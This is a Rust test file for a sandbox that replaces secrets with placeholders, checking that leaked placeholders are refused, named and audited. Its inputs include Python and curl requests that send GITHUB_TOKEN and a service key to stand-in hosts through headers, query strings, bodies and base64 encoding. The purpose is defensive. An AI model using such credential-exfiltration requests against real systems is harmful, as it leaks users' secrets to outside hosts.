//! Placeholders that are sent to other hosts, or in other ways than the secret allows, are refused and audited.

use ringfence_testkit::{Server, User};
use serde_json::Value;

use super::api::{Api, variable};
use crate::network::reach::{WITHOUT_PROXY, run};
use crate::network::sessions::{network_events, network_lines};

const SEND: &str = r#"
import base64, os, urllib.request, urllib.error
token, key = os.environ["GITHUB_TOKEN"], os.environ["SERVICE_KEY"]
def send(url, headers={}, body=None):
    for handler in (urllib.request.ProxyHandler(), urllib.request.ProxyHandler({})):
        request = urllib.request.Request(url, data=body, headers=headers)
        try:
            print(urllib.request.build_opener(handler).open(request, timeout=20).status)
        except urllib.error.HTTPError as error:
            print(error.code, error.headers["X-Ringfence-Reason"], error.read().decode().splitlines()[0])
"#;

/// Requests with a placeholder, the reason for which they are refused, and the name of the secret.
const REQUESTS: [(&str, &str, &str); 13] = [
    ("send('https://checked.test/open', {'Authorization': f'Bearer {token}'})", "secret-elsewhere", "github"),
    (
        "send('https://checked.test/open', {'Cookie': base64.b64encode(token.encode()).decode()})",
        "secret-elsewhere",
        "github",
    ),
    ("send(f'https://checked.test/open?t={token}')", "secret-elsewhere", "github"),
    ("send(f'https://checked.test/open/%{ord(token[0]):02x}{token[1:]}')", "secret-elsewhere", "github"),
    ("send('https://checked.test/open', body=f'a={token}'.encode())", "secret-elsewhere", "github"),
    ("send('https://checked.test/open', body=base64.b64encode(f'a={token}'.encode()))", "secret-elsewhere", "github"),
    ("send('https://service.test/open', {'X-Api-Key': token})", "secret-elsewhere", "github"),
    ("send('https://api.github.com/user', {'X-Api-Key': key})", "secret-elsewhere", "service"),
    ("send('http://other.test/open', {'Authorization': f'Bearer {token}'})", "secret-elsewhere", "github"),
    ("send(f'http://other.test/open?t={token}')", "secret-elsewhere", "github"),
    ("send('http://other.test/open', body=token.encode())", "secret-elsewhere", "github"),
    ("send('http://public.test/user', {'Authorization': f'Bearer {token}'})", "secret-plain-text", "github"),
    ("send(f'https://api.github.com/open?t={token}')", "secret-location", "github"),
];

fn host_of(code: &str) -> &str {
    code.split_once("://").and_then(|(_, rest)| rest.split('/').next()).expect("a URL")
}

/// Checks the status that the guest has received, and the line in the response of the call.
fn check_refusal(code: &str, result: &Value, reason: &str, secret: &str) {
    let stdout = result["stdout"].as_str().unwrap_or_default();
    let is_refusal = |line: &str| line.starts_with(&format!("403 {reason} ")) && line.contains(&format!("`{secret}`"));
    assert!(stdout.lines().count() == 2 && stdout.lines().all(is_refusal), "{code}: {result}");
    let lines = network_lines(result);
    let is_named = lines.iter().all(|line| {
        line.starts_with(&format!("network: blocked {}:", host_of(code)))
            && line.contains(&format!("the placeholder of secret `{secret}`"))
    });
    assert!(lines.len() == 1 && is_named, "{code}: {lines:?}");
}

fn check_requests(api: &Api, user: User, server: &Server) {
    let session = server.create_session("probe", SEND);
    for url in ["https://checked.test/open", "http://other.test/open", "https://service.test/open"] {
        let control = server.execute(&session, &format!("send('{url}')"));
        assert_eq!(
            (&control["stdout"], network_lines(&control)),
            (&"200\n200\n".into(), vec![]),
            "{user:?}: {control}"
        );
    }
    api.take_requests();
    for (code, reason, secret) in REQUESTS {
        let result = server.execute(&session, code);
        check_refusal(code, &result, reason, secret);
        assert_eq!(api.take_requests(), Vec::<Value>::new(), "{user:?}: {code}: the request has arrived");
    }
}

#[test]
fn placeholders_elsewhere_are_refused_named_and_audited() {
    const TEST: &str = "secrets::elsewhere::placeholders_elsewhere_are_refused_named_and_audited";
    let Some(api) = Api::enter(TEST) else { return };
    for user in User::ALL {
        if user.skip_if_unavailable(TEST) {
            continue;
        }
        let server = api.server(user);
        check_requests(&api, user, &server);
        let state = server.stop();
        let server = api.server_in(user, state, &api.configuration());
        let events = network_events(user, &server, "network_refused");
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        let seen: Vec<_> = events
            .iter()
            .map(|event| [&event["outcome"], &event["detail"]["host"], &event["detail"]["secret"]].map(text))
            .collect();
        let expected = REQUESTS.map(|(code, reason, secret)| [reason, host_of(code), secret].map(str::to_owned));
        assert_eq!(seen, expected, "{user:?}");
        let all = format!("{events:?}");
        assert!(!all.contains(&api.token) && !all.contains(&api.key), "{user:?}: {all}");
    }
}

#[test]
fn placeholder_over_http2_is_refused() {
    const TEST: &str = "secrets::elsewhere::placeholder_over_http2_is_refused";
    let Some(api) = Api::enter(TEST) else { return };
    let server = api.server(User::Root);
    let session = server.create_session("probe", "1");
    for prefix in ["env", WITHOUT_PROXY] {
        let curl = format!("{prefix} curl -sS -i --http2 https://checked.test/open");
        let control = run(&server, &session, &curl);
        assert!(control["stdout"].to_string().contains("HTTP/2 200"), "{control}");
        api.take_requests();
        for data in
            [r#"-H "Authorization: Bearer $GITHUB_TOKEN""#, r#"-d "$GITHUB_TOKEN""#, r#"--url-query "a=$GITHUB_TOKEN""#]
        {
            // Without `--url-query`, which old versions do not have.
            let (command, data) = match data.strip_prefix("--url-query ") {
                Some(query) => (format!("{curl}?{}", query.replace('"', "")), ""),
                None => (curl.clone(), data),
            };
            let result = run(&server, &session, &format!("{command} {data}"));
            let stdout = result["stdout"].as_str().unwrap_or_default();
            let is_refused = stdout.contains("HTTP/2 403") && stdout.contains("x-ringfence-reason: secret-elsewhere");
            assert!(is_refused && network_lines(&result).len() == 1, "{data}: {result}");
            assert_eq!(api.take_requests(), Vec::<Value>::new(), "{data}: the request has arrived");
        }
    }
}

#[test]
fn leak_is_reported_although_the_host_was_refused_before() {
    const TEST: &str = "secrets::elsewhere::leak_is_reported_although_the_host_was_refused_before";
    let Some(api) = Api::enter(TEST) else { return };
    let server = api.server(User::Root);
    let session = server.create_session("probe", SEND);
    let code = "send('https://checked.test//open')\nfor _ in range(3): send(f'https://checked.test/open?t={token}')";
    let lines = network_lines(&server.execute(&session, code));
    let [first, second] = lines.as_slice() else { panic!("{lines:?}") };
    assert!(
        first.contains("the path is ambiguous") && second.contains("the placeholder of secret `github`"),
        "{lines:?}"
    );
}

#[test]
fn host_whose_tls_is_not_decrypted_receives_only_the_placeholder() {
    const TEST: &str = "secrets::elsewhere::host_whose_tls_is_not_decrypted_receives_only_the_placeholder";
    let Some(api) = Api::enter(TEST) else { return };
    let server = api.server(User::Root);
    let session = server.create_session("probe", SEND);
    let placeholder = variable(&server, &session, "GITHUB_TOKEN");
    // The guest trusts the certificates that the host trusts.
    let result = server.execute(&session, "send('https://other.test/open', {'Authorization': token})");
    assert_eq!(result["stdout"], "200\n200\n", "{result}");
    for request in api.take_requests() {
        assert_eq!(request["headers"]["authorization"], *placeholder, "{request}");
    }
}
